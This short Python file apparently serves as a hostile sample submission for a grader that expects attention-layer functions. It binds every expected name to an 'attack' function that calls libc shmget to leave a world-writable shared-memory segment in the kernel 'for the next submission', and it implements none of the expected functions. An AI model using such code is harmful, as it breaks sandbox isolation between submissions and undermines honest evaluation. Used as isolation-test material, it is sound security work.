"""Leaves shared memory in the kernel for the next submission."""

import ctypes


def attack(*args, **kwargs):
    ctypes.CDLL(None).shmget(0x42, 4096, 0o1666)


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
